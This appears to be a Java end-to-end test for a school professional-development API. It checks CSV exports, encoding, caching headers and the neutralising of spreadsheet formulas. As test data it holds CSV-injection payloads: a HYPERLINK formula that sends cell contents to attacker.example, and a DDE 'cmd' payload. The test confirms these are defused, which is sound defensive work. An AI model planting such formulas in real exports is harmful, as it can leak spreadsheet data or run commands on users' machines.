package org.e2e.web;

import static io.restassured.RestAssured.given;
import static org.e2e.support.Fixtures.BE_RELIABLE;
import static org.e2e.support.Fixtures.FW;
import static org.e2e.support.Fixtures.MERGE_PATCH;
import static org.hamcrest.Matchers.containsString;
import static org.hamcrest.Matchers.equalTo;
import static org.hamcrest.Matchers.hasItem;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.File;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.concurrent.TimeUnit;
import java.util.zip.ZipEntry;
import java.util.zip.ZipFile;

import org.e2e.support.PostgresTestDatabase;
import org.e2e.support.Tokens;
import org.junit.jupiter.api.Assumptions;
import org.junit.jupiter.api.Test;

import io.quarkus.test.common.QuarkusTestResource;
import io.quarkus.test.junit.QuarkusTest;
import io.quarkus.test.junit.TestProfile;
import io.restassured.response.Response;

/**
 * CSV for PD planners by content negotiation on the existing operations: the actions, the resource list with its
 * filters and a self-assessment result, each RFC 4180 in UTF-8 with a header row and one row per item, with the
 * operation's ETag, 304 and paging headers; authored content that a spreadsheet would evaluate is neutralised; and
 * LibreOffice (Debian's soffice, headless) converts a download to xlsx with accents, typographic quotes and the
 * neutralised cells intact as text.
 */
@QuarkusTest
@TestProfile(SpreadsheetProfile.class)
@QuarkusTestResource(PostgresTestDatabase.class)
class SpreadsheetApiTest {

    static final String CSV = "text/csv";
    static final String RESOURCES = "/api/v1/resources";
    static final String RUBRIC = RESOURCES + "/staff-relationships-and-collaboration/assessment";
    static final String ACCENTED = "Réunion d’équipe : « pédagogie », Zürich — “año” Øresund";
    static final String FORMULA_TITLE = "=HYPERLINK(\"https://attacker.example/?\"&A1,\"Open\")";

    @Test
    void theActionsOfAnElementAsOneRowEach() {
        Response json = given().queryParam("element", "beliefs").queryParam("size", 100).get(FW + "/actions");
        List<Map<String, Object>> items = json.then().statusCode(200).extract().jsonPath().getList("items");
        assertTrue(json.headers().getValues("Vary").contains("Accept"), "the JSON says it was negotiated too");
        Response csv = given().accept(CSV).queryParam("element", "beliefs").queryParam("size", 100).get(FW + "/actions");
        csv.then().statusCode(200).contentType(equalTo("text/csv;charset=utf-8;header=present"))
                .header("X-Total-Count", "18")
                .header("Content-Disposition", equalTo("attachment; filename=\"e2e-relationships-actions.csv\""));
        assertTrue(csv.headers().getValues("Vary").contains("Accept"), "caches keep the two representations apart");
        assertTrue(csv.headers().getValues("Link").stream().anyMatch(l -> l.contains("rel=\"first\"")), "the paging links");
        List<List<String>> rows = rows(csv);
        assertEquals(List.of("layer", "element", "category", "action", "id", "link"), rows.get(0));
        assertEquals(items.size() + 1, rows.size(), "a header row, then one row per action");
        for (int i = 0; i < items.size(); i++) {
            List<String> row = rows.get(i + 1);
            List<Map<String, Object>> path = (List<Map<String, Object>>) items.get(i).get("path");
            assertEquals(List.of(path.get(0).get("title"), path.get(1).get("title"), path.get(2).get("title"),
                    items.get(i).get("text"), items.get(i).get("id"),
                    "https://e2e.example.test/view/frameworks/e2e-relationships/elements/beliefs#cat-" + path.get(2).get("slug")), row);
        }
        assertTrue(rows.stream().anyMatch(r -> r.get(3).equals("Be reliable: Tell your colleagues what you are going to do, then do it.")
                && r.get(4).equals(BE_RELIABLE) && r.get(2).equals("Trust")));
        String etag = csv.header("ETag");
        assertNotEquals(json.header("ETag"), etag, "the CSV is another representation");
        given().accept(CSV).header("If-None-Match", etag).queryParam("element", "beliefs").queryParam("size", 100)
                .get(FW + "/actions").then().statusCode(304);
        // The same page as the JSON: filters and paging apply alike.
        assertEquals(6, rows(given().accept(CSV).queryParam("category", "trust").queryParam("size", 5).get(FW + "/actions")).size());
        given().accept("application/xml").get(FW + "/actions").then().statusCode(406);
    }

    @Test
    void theResourceListWithItsFiltersAndASelfAssessmentResult() {
        Response json = given().queryParam("audience", "district-leaders").queryParam("sort", "-reading-time").get(RESOURCES);
        List<Map<String, Object>> items = json.then().statusCode(200).extract().jsonPath().getList("items");
        Response csv = given().accept(CSV).queryParam("audience", "district-leaders").queryParam("sort", "-reading-time").get(RESOURCES);
        csv.then().statusCode(200).contentType(containsString("text/csv")).header("X-Total-Count", String.valueOf(items.size()));
        List<List<String>> rows = rows(csv);
        assertEquals(List.of("title", "type", "audiences", "tags", "reading time (minutes)", "link"), rows.get(0));
        assertEquals(items.size() + 1, rows.size());
        for (int i = 0; i < items.size(); i++) {
            Map<String, Object> item = items.get(i);
            List<String> row = rows.get(i + 1);
            assertEquals(item.get("title"), row.get(0));
            assertEquals(item.get("typeLabel"), row.get(1));
            assertTrue(row.get(2).contains("District Leaders"), row.toString());
            assertEquals(String.join("; ", (List<String>) item.get("tags")), row.get(3));
            assertEquals(String.valueOf(item.get("readingTimeMinutes")), row.get(4));
            assertEquals(((Map<String, Object>) item.get("links")).get("view"), row.get(5));
        }

        Response result = given().accept(CSV).get(RUBRIC + "?cultivating-staff-relationships=1&supporting-staff-well-being=3");
        result.then().statusCode(200).contentType(containsString("text/csv"));
        List<List<String>> assessed = rows(result);
        assertEquals(List.of("criterion", "rating", "next level", "rank", "next step", "kind", "link"), assessed.get(0));
        List<Map<String, Object>> steps = given().get(RUBRIC + "?cultivating-staff-relationships=1&supporting-staff-well-being=3")
                .then().statusCode(200).extract().jsonPath().getList("nextSteps");
        int expected = steps.stream().mapToInt(s -> ((List<?>) s.get("criteria")).size()).sum();
        assertEquals(expected + 1, assessed.size(), "one row per criterion a step serves");
        assertEquals(List.of("Cultivating Staff Relationships", "Level 1 of 3", "Level 2", "1",
                "Set up a routine to honor educators’ efforts and contributions (e.g., celebrate teaching anniversaries)", "action",
                "https://e2e.example.test/api/v1/frameworks/e2e-relationships/versions/1.0.0/nodes/53f1094f-b3d1-5372-ab0f-9ef4319f07ef"),
                assessed.get(1), "the lowest-rated criterion's first step");
        assertTrue(assessed.contains(List.of("Cultivating Staff Relationships", "Level 1 of 3", "Level 2", "3",
                "How to build a teacher alliance", "resource", "https://e2e.example.test/view/resources/how-to-build-a-teacher-alliance")),
                assessed.toString());
        assertTrue(assessed.stream().anyMatch(r -> r.get(0).equals("Supporting Staff Well-Being") && r.get(1).equals("Level 3 of 3")
                && r.get(2).isEmpty() && r.get(6).startsWith("https://e2e.example.test/api/v1/frameworks/")), assessed.toString());
        given().accept(CSV).get(RUBRIC + "?cultivating-staff-relationships=9").then().statusCode(400)
                .contentType("application/problem+json");
    }

    @Test
    void authoredFormulasAreNeutralisedAndLibreOfficeKeepsTheText() throws Exception {
        // An editor's draft version whose actions hold what a spreadsheet would evaluate.
        given().header("Authorization", Tokens.editor()).contentType("application/json")
                .body(Map.of("version", "1.1.0", "basedOn", "1.0.0")).post(FW + "/versions").then().statusCode(201);
        List<String> trust = given().header("Authorization", Tokens.editor()).queryParam("version", "1.1.0")
                .queryParam("category", "trust").get(FW + "/actions").then().statusCode(200).extract().jsonPath().getList("items.id");
        List<String> formulas = List.of("=1+1", "+SUM(1,2)", "-2+3", "@SUM(A1:A2)", "\t=1+1", " =cmd|' /C calc'!A0", FORMULA_TITLE);
        for (int i = 0; i < formulas.size(); i++) {
            String node = FW + "/versions/1.1.0/nodes/" + trust.get(i);
            String etag = given().header("Authorization", Tokens.editor()).get(node).then().statusCode(200).extract().header("ETag");
            given().header("Authorization", Tokens.editor()).header("If-Match", etag).contentType(MERGE_PATCH)
                    .body(Map.of("text", formulas.get(i))).patch(node).then().statusCode(200);
        }
        Response actions = given().header("Authorization", Tokens.editor()).accept(CSV).queryParam("version", "1.1.0")
                .queryParam("category", "trust").get(FW + "/actions");
        List<String> texts = rows(actions).stream().skip(1).map(r -> r.get(3)).toList();
        for (String formula : formulas) {
            assertTrue(texts.contains("'" + formula), "neutralised: " + formula + " in " + texts);
        }
        // A published resource with an accented title and one with a formula for a title.
        publish("reunion-d-equipe", ACCENTED);
        publish("formula-title", FORMULA_TITLE);
        Response resources = given().accept(CSV).queryParam("size", 100).get(RESOURCES);
        List<String> titles = rows(resources).stream().skip(1).map(r -> r.get(0)).toList();
        assertTrue(titles.contains(ACCENTED), titles.toString());
        assertTrue(titles.contains("'" + FORMULA_TITLE), titles.toString());

        Map<String, String> sheets = convertedByLibreOffice(Map.of("actions.csv", actions.asByteArray(),
                "resources.csv", resources.asByteArray()));
        for (String sheet : sheets.values()) {
            assertFalse(sheet.contains("<f>") || sheet.contains("<f "), "LibreOffice made no cell a formula: " + sheet);
        }
        String resourceSheet = text(sheets.get("resources.xlsx"));
        assertTrue(resourceSheet.contains(ACCENTED), "accents and typographic quotes survive LibreOffice: " + resourceSheet);
        assertTrue(resourceSheet.contains("How to build a teacher alliance"), resourceSheet);
        assertTrue(resourceSheet.contains("HYPERLINK(\"https://attacker.example/?\"&A1,\"Open\")"), "the formula is kept as text");
        String actionSheet = text(sheets.get("actions.xlsx"));
        assertTrue(actionSheet.contains("Be reliable: Tell your colleagues what you are going to do, then do it."), actionSheet);
        assertTrue(actionSheet.contains("SUM(A1:A2)"), actionSheet);
    }

    private static void publish(String slug, String title) {
        String document = """
                {"slug":"%s","title":%s,"summary":"Teachers need each other.","type":"article","audiences":["teachers"],
                 "tags":["teacher-alliance"],"sections":[{"slug":"article","title":"Article",
                 "blocks":[{"type":"paragraph","text":"Ask people what they do in their classrooms and how it’s working."}]}],
                 "supports":[{"framework":"e2e-relationships","node":"layer:roots/element:connections"}]}"""
                .formatted(slug, quoteJson(title));
        given().header("Authorization", Tokens.editor()).contentType("application/json").body(document).post(RESOURCES)
                .then().statusCode(201);
        given().header("Authorization", Tokens.publisher()).post(RESOURCES + "/" + slug + "/publish").then().statusCode(200);
        given().get(RESOURCES).then().body("items.slug", hasItem(slug));
    }

    /**
     * LibreOffice's CSV import options: comma, double quote, UTF-8 (76), from line 1. Headless conversion has no import
     * dialog and without them reads any CSV as Windows-1252, byte-order mark or not (LibreOffice 7.4), so the README
     * gives this command.
     */
    static final String LIBREOFFICE_CSV_FILTER = "CSV:44,34,76,1";

    /**
     * Each CSV converted by {@code soffice --headless --infilter=CSV:44,34,76,1 --convert-to xlsx} (Debian's LibreOffice; skipped without it
     * unless E2E_REQUIRE_SOFFICE=true, as in CI), as the text of the workbook's shared strings and first sheet.
     */
    static Map<String, String> convertedByLibreOffice(Map<String, byte[]> files) throws Exception {
        boolean present = new File("/usr/bin/soffice").canExecute();
        if (!present && "true".equals(System.getenv("E2E_REQUIRE_SOFFICE"))) {
            throw new IllegalStateException("E2E_REQUIRE_SOFFICE is set but /usr/bin/soffice is missing: apt-get install libreoffice-calc-nogui");
        }
        Assumptions.assumeTrue(present, "LibreOffice (soffice) is not installed: apt-get install libreoffice-calc-nogui");
        Path dir = Files.createTempDirectory("e2e-csv");
        List<String> command = new ArrayList<>(List.of("/usr/bin/soffice", "-env:UserInstallation=" + dir.resolve("profile").toUri(),
                "--headless", "--infilter=" + LIBREOFFICE_CSV_FILTER, "--convert-to", "xlsx", "--outdir", dir.toString()));
        for (Map.Entry<String, byte[]> file : files.entrySet()) {
            Files.write(dir.resolve(file.getKey()), file.getValue());
            command.add(dir.resolve(file.getKey()).toString());
        }
        Process soffice = new ProcessBuilder(command).redirectErrorStream(true).start();
        String output = new String(soffice.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
        assertTrue(soffice.waitFor(180, TimeUnit.SECONDS), "soffice finished");
        assertEquals(0, soffice.exitValue(), output);
        Map<String, String> sheets = new HashMap<>();
        for (String name : files.keySet()) {
            String xlsx = name.replace(".csv", ".xlsx");
            try (ZipFile zip = new ZipFile(dir.resolve(xlsx).toFile())) {
                StringBuilder text = new StringBuilder();
                for (String part : List.of("xl/sharedStrings.xml", "xl/worksheets/sheet1.xml")) {
                    ZipEntry entry = zip.getEntry(part);
                    if (entry != null) {
                        try (InputStream in = zip.getInputStream(entry)) {
                            text.append(new String(in.readAllBytes(), StandardCharsets.UTF_8));
                        }
                    }
                }
                sheets.put(xlsx, text.toString());
            }
        }
        return sheets;
    }

    static List<List<String>> rows(Response response) {
        byte[] bytes = response.asByteArray();
        assertEquals(List.of((byte) 0xEF, (byte) 0xBB, (byte) 0xBF), List.of(bytes[0], bytes[1], bytes[2]), "a UTF-8 byte-order mark");
        return CsvRows.parse(new String(bytes, 3, bytes.length - 3, StandardCharsets.UTF_8));
    }

    /** The text of a workbook part's XML, its entities resolved. */
    private static String text(String xml) {
        return xml.replace("&quot;", "\"").replace("&apos;", "'").replace("&lt;", "<").replace("&gt;", ">").replace("&amp;", "&");
    }

    private static String quoteJson(String text) {
        return "\"" + text.replace("\\", "\\\\").replace("\"", "\\\"") + "\"";
    }
}
